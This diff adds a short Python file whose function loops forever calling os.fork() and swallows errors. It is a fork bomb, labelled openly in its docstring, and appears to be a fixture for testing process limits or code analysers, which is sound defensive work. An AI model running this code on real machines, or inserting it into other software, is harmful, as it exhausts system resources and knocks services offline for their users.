@@ -1,0 +1,12 @@
+"""Forks for ever."""
+# ruff: noqa
+
+import os
+
+
+def f(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
